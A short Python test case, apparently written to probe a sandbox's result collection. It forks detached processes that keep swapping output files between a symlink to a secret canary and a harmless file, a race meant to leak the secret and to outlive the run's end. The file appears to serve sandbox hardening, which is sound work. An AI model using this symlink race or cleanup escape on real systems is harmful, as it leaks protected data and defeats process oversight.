# Swaps a file and a link to a secret all the time, also after its end, while it is collected.
# severity: critical
# escape: secret, survivor
import os

from raw import A, end, fork, tried

NAMES = [f"result{number}" for number in range(8)]


def swap():
    os.setsid()
    while True:
        for name in NAMES:
            try:
                os.symlink(A.canary, name + ".link")
                os.rename(name + ".link", name)
                with open(name + ".file", "w") as file:
                    file.write("fine")
                os.rename(name + ".file", name)
            except OSError:
                os._exit(0)


for _ in range(2):
    fork(swap)
tried()
end(exit_code=0)
os._exit(0)
